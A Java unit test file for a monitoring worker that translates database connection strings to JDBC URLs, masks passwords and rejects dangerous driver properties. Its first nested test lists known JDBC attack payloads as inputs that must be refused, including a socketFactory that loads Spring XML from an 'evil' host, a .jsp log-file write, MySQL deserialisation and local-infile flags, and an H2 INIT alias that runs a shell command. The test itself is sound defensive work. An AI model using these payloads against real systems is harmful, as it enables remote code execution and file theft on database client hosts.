package dev.monitoringworker.execution;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class ConnectionStringsTest {

    private static final String SECRET = "s3cr3t-Value";

    /** As on the embedded demo, where H2 targets are enabled. */
    private static JdbcTarget translate(Provider provider, String connectionString) {
        return ConnectionStrings.translate(provider, connectionString, true);
    }

    /** Driver properties that load classes, touch files or run SQL on the worker's host: refused by name, never executed. */
    @Nested
    class DoorsIntoTheHost {
        @ParameterizedTest
        @ValueSource(strings = {
                "PostgreSQL|jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml|socketFactory",
                "PostgreSQL|jdbc:postgresql://db/x?sslfactory=org.springframework.context.support.FileSystemXmlApplicationContext|sslfactory",
                "PostgreSQL|jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=/tmp/x.jsp|loggerLevel",
                "PostgreSQL|jdbc:postgresql://db/x?loggerFile=/tmp/x.jsp|loggerFile",
                "PostgreSQL|jdbc:postgresql://db/x?sslhostnameverifier=x.Y|sslhostnameverifier",
                "PostgreSQL|jdbc:postgresql://db/x?authenticationPluginClassName=x.Y|authenticationPluginClassName",
                "PostgreSQL|jdbc:postgresql://db/x?options=-c%20default_transaction_read_only=off|options",
                "PostgreSQL|Server=db;Database=x?socketFactory=x.Y|socketFactory",
                "MySQL|jdbc:mysql://db/x?autoDeserialize=true|autoDeserialize",
                "MySQL|jdbc:mysql://db/x?allowLoadLocalInfile=true|allowLoadLocalInfile",
                "MySQL|jdbc:mariadb://db/x?allowLocalInfile=true|allowLocalInfile",
                "MySQL|jdbc:mysql://db/x?allowUrlInLocalInfile=true|allowUrlInLocalInfile",
                "MySQL|jdbc:mariadb://db/x?sessionVariables=transaction_read_only=0|sessionVariables",
                "MySQL|jdbc:mariadb://db/x?allowMultiQueries=true|allowMultiQueries",
                "MySQL|jdbc:mariadb://db/x?socketFactory=x.Y|socketFactory",
                "SqlServer|jdbc:sqlserver://db:1433;socketFactoryClass=x.Y;socketFactoryConstructorArg=z|socketFactoryClass",
                "SqlServer|jdbc:sqlserver://db:1433;trustManagerClass=x.Y|trustManagerClass",
                "SqlServer|jdbc:sqlserver://db:1433;accessTokenCallbackClass=x.Y|accessTokenCallbackClass",
                "SqlServer|Server=db;Database='x;socketFactoryClass=x.Y'|socketFactoryClass",
                "Oracle|jdbc:oracle:thin:@//db:1521/S?wallet_location=/etc|wallet_location",
                "Oracle|jdbc:oracle:thin:@//db:1521/S?TNS_ADMIN=/tmp|TNS_ADMIN",
                "Oracle|jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=o)(PORT=1521))(SECURITY=(MY_WALLET_DIRECTORY=/tmp/w))(CONNECT_DATA=(SERVICE_NAME=S)))|MY_WALLET_DIRECTORY",
                "Oracle|jdbc:oracle:thin:@//db:1521/S?oracle.net.trace_directory=/tmp|oracle.net.trace_directory",
                "H2|jdbc:h2:mem:x;INIT=CREATE ALIAS E AS 'String e(String c) throws Exception { new ProcessBuilder(c).start(); return c; }'\\;CALL E('touch /tmp/x')|INIT",
                "H2|jdbc:h2:mem:x;TRACE_LEVEL_FILE=4|TRACE_LEVEL_FILE"})
        void refusedByName(String row) {
            String[] parts = row.split("\\|");
            assertThatThrownBy(() -> translate(Provider.parse(parts[0]), parts[1]))
                    .isInstanceOf(ConnectionStringException.class)
                    .hasMessageContaining("'" + parts[2] + "'").hasMessageContaining("not allowed for Provider " + Provider.parse(parts[0]));
        }

        @Test
        void usualSettingsStillPass() {
            assertThat(translate(Provider.PostgreSQL, "jdbc:postgresql://db/x?sslmode=verify-full&sslrootcert=/etc/ca.pem&ApplicationName=mw").url())
                    .endsWith("ApplicationName=mw");
            assertThat(translate(Provider.SqlServer, "jdbc:sqlserver://db:1433;databaseName=x;encrypt=true;password={a;b};trustServerCertificate=false"))
                    .isNotNull();
            assertThat(translate(Provider.MySQL, "jdbc:mariadb://db/x?sslMode=verify-full&connectTimeout=5000").url()).contains("sslMode");
            assertThat(translate(Provider.Oracle, "jdbc:oracle:thin:@//db:1521/S?connect_timeout=5").url()).contains("connect_timeout");
            assertThat(translate(Provider.H2, "jdbc:h2:file:./data/monitoring;DB_CLOSE_ON_EXIT=FALSE;USER=sa").url()).contains("USER=sa");
        }

        @Test
        void h2IsRefusedUnlessEnabled() {
            assertThatThrownBy(() -> ConnectionStrings.translate(Provider.H2, "jdbc:h2:mem:x", false))
                    .isInstanceOf(ConnectionStringException.class).hasMessageContaining("monitoring.targets.h2-enabled");
            assertThat(ConnectionStrings.translate(Provider.H2, "jdbc:h2:mem:x", true).url()).isEqualTo("jdbc:h2:mem:x");
        }
    }

    /** Every form a password can take in a connection string is found, so its masking covers what a driver echoes. */
    @Nested
    class Secrets {
        @ParameterizedTest
        @ValueSource(strings = {
                "jdbc:mysql://user:" + SECRET + "@host:5999/x",
                "jdbc:mariadb://user:" + SECRET + "@host/x?sslMode=trust",
                "jdbc:postgresql://host/x?user=u&password=" + SECRET + "&ssl=true",
                "jdbc:sqlserver://host:1433;user=u;password={" + SECRET + "};encrypt=false",
                "jdbc:sqlserver://host:1433;password=" + SECRET,
                "jdbc:oracle:thin:scott/" + SECRET + "@//host:1521/S",
                "Server=h;Password='" + SECRET + "';User Id=u",
                "Server=h;Pwd=" + SECRET,
                "jdbc:postgresql://host/x?password=" + "s3cr3t%2DValue"})
        void foundInEveryForm(String connectionString) {
            assertThat(ConnectionStrings.secretsIn(connectionString)).contains(SECRET);
        }

        @Test
        void mysqlCredentialsInTheAuthorityBecomeUserAndPassword() {
            JdbcTarget t = translate(Provider.MySQL, "jdbc:mysql://mon:" + SECRET + "@my:3306/shop");
            assertThat(t.url()).isEqualTo("jdbc:mariadb://my:3306/shop").doesNotContain(SECRET);
            assertThat(t.username()).isEqualTo("mon");
            assertThat(t.password()).isEqualTo(SECRET);
        }
    }

    @Nested
    class SqlServer {
        @Test
        void translatesTheSeedForm() {
            JdbcTarget t = translate(Provider.SqlServer,
                    "Server=db.example.org,1433;Database=PopAI;User Id=monitor;Password=" + SECRET + ";TrustServerCertificate=true;");
            assertThat(t.url()).isEqualTo("jdbc:sqlserver://db.example.org:1433;databaseName=PopAI");
            assertThat(t.username()).isEqualTo("monitor");
            assertThat(t.password()).isEqualTo(SECRET);
            assertThat(t.properties()).containsEntry("trustServerCertificate", "true");
            assertThat(t.url()).doesNotContain(SECRET);
        }

        @Test
        void namedInstanceTcpPrefixAndLocalhost() {
            assertThat(translate(Provider.SqlServer, "Data Source=tcp:sql01\\PROD;Initial Catalog=x").url())
                    .isEqualTo("jdbc:sqlserver://sql01\\PROD;databaseName=x");
            assertThat(translate(Provider.SqlServer, "Server=(local);Integrated Security=SSPI").properties())
                    .containsEntry("integratedSecurity", "true");
            assertThat(translate(Provider.SqlServer, "Server=.").url()).isEqualTo("jdbc:sqlserver://localhost:1433");
        }

        @Test
        void quotedPasswordMayHoldSemicolonsAndQuotes() {
            JdbcTarget t = translate(Provider.SqlServer, "Server=h;Password='a;b''c';User Id=u");
            assertThat(t.password()).isEqualTo("a;b'c");
            assertThat(t.username()).isEqualTo("u");
        }

        @Test
        void jdbcUrlPassesThrough() {
            String url = "jdbc:sqlserver://h:1433;databaseName=d";
            assertThat(translate(Provider.SqlServer, url).url()).isEqualTo(url);
        }
    }

    @Nested
    class PostgreSQL {
        @Test
        void translatesNpgsqlForm() {
            JdbcTarget t = translate(Provider.PostgreSQL,
                    "Host=pg.example.org;Port=5433;Database=app;Username=mon;Password=" + SECRET + ";SSL Mode=VerifyFull;Timeout=5");
            assertThat(t.url()).isEqualTo("jdbc:postgresql://pg.example.org:5433/app");
            assertThat(t.properties()).containsEntry("sslmode", "verify-full").containsEntry("connectTimeout", "5");
        }

        @Test
        void defaultPortAndHostPortForm() {
            assertThat(translate(Provider.PostgreSQL, "Server=pg;Database=d").url()).isEqualTo("jdbc:postgresql://pg:5432/d");
            assertThat(translate(Provider.PostgreSQL, "Server=pg:6000;Database=d").url()).isEqualTo("jdbc:postgresql://pg:6000/d");
        }
    }

    @Nested
    class MySQL {
        @Test
        void translatesMySqlConnectorForm() {
            JdbcTarget t = translate(Provider.MySQL, "Server=my;Port=3307;Database=shop;Uid=mon;Pwd=" + SECRET + ";SslMode=Required");
            assertThat(t.url()).isEqualTo("jdbc:mariadb://my:3307/shop");
            assertThat(t.username()).isEqualTo("mon");
            assertThat(t.properties()).containsEntry("sslMode", "trust");
        }

        @Test
        void mysqlJdbcUrlIsServedByTheMariaDbDriver() {
            assertThat(translate(Provider.MySQL, "jdbc:mysql://my:3306/shop?connectTimeout=1000").url()).isEqualTo("jdbc:mariadb://my:3306/shop?connectTimeout=1000");
        }
    }

    @Nested
    class Oracle {
        @Test
        void ezConnectAndDescriptor() {
            assertThat(translate(Provider.Oracle, "Data Source=ora:1522/ORCLPDB1;User Id=mon;Password=x").url())
                    .isEqualTo("jdbc:oracle:thin:@//ora:1522/ORCLPDB1");
            assertThat(translate(Provider.Oracle, "Data Source=(DESCRIPTION=(ADDRESS=(HOST=o)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=S)))").url())
                    .isEqualTo("jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=o)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=S)))");
        }

        @Test
        void needsAService() {
            assertThatThrownBy(() -> translate(Provider.Oracle, "Data Source=ora")).hasMessageContaining("service name");
        }
    }

    @Nested
    class Malformed {
        @Test
        void theSeedPlaceholderIsNotAHost() {
            assertThatThrownBy(() -> translate(Provider.SqlServer, "Server=...;Database=...;"))
                    .isInstanceOf(ConnectionStringException.class).hasMessage("ConnectionString server '...' is not a host name or address");
        }

        @ParameterizedTest
        @ValueSource(strings = {"", "   "})
        void empty(String text) {
            assertThatThrownBy(() -> translate(Provider.PostgreSQL, text)).hasMessage("ConnectionString is empty");
        }

        @Test
        void missingServer() {
            assertThatThrownBy(() -> translate(Provider.PostgreSQL, "Database=d;Password=" + SECRET))
                    .hasMessageContaining("no Server").hasMessageNotContaining(SECRET);
        }

        @Test
        void partWithoutEquals() {
            assertThatThrownBy(() -> translate(Provider.MySQL, "Server=h;" + SECRET))
                    .hasMessage("ConnectionString part 2 has no '=': expected key=value pairs separated by ';'");
        }

        @Test
        void unknownKeyIsNamedButNeverItsValue() {
            assertThatThrownBy(() -> translate(Provider.PostgreSQL, "Server=h;Passwort=" + SECRET))
                    .hasMessageContaining("'passwort'").hasMessageNotContaining(SECRET);
        }

        @Test
        void badPortAndUnclosedQuote() {
            assertThatThrownBy(() -> translate(Provider.PostgreSQL, "Server=h;Port=99999")).hasMessageContaining("not a port number");
            assertThatThrownBy(() -> translate(Provider.PostgreSQL, "Server=h;Password='" + SECRET))
                    .hasMessage("ConnectionString value of 'password' has an unclosed quote");
        }

        @Test
        void jdbcUrlOfAnotherProvider() {
            assertThatThrownBy(() -> translate(Provider.PostgreSQL, "jdbc:mariadb://h/d?password=" + SECRET))
                    .hasMessage("ConnectionString is a JDBC URL for 'jdbc:mariadb' but Provider is PostgreSQL (expected jdbc:postgresql:...)");
        }

        @Test
        void duplicateKeys() {
            assertThatThrownBy(() -> translate(Provider.PostgreSQL, "Server=a;Host=b;server=c")).hasMessageContaining("twice");
        }

        @Test
        void h2TakesUrlsOnly() {
            assertThatThrownBy(() -> translate(Provider.H2, "Server=h")).hasMessageContaining("jdbc:h2");
        }
    }

    @Test
    void targetToStringHidesThePassword() {
        JdbcTarget t = translate(Provider.PostgreSQL, "Server=h;Password=" + SECRET);
        assertThat(t.toString()).doesNotContain(SECRET).contains("***");
    }

    @Test
    void providerAliases() {
        assertThat(Provider.parse("mariadb")).isEqualTo(Provider.MySQL);
        assertThat(Provider.parse(" Postgres ")).isEqualTo(Provider.PostgreSQL);
        assertThat(Provider.parse("MSSQL")).isEqualTo(Provider.SqlServer);
        assertThatThrownBy(() -> Provider.parse("DB2")).hasMessageContaining("unknown Provider 'DB2'");
        assertThat(Provider.PostgreSQL.accepts(null)).isTrue();
        assertThat(Provider.PostgreSQL.accepts("MySQL")).isFalse();
    }
}
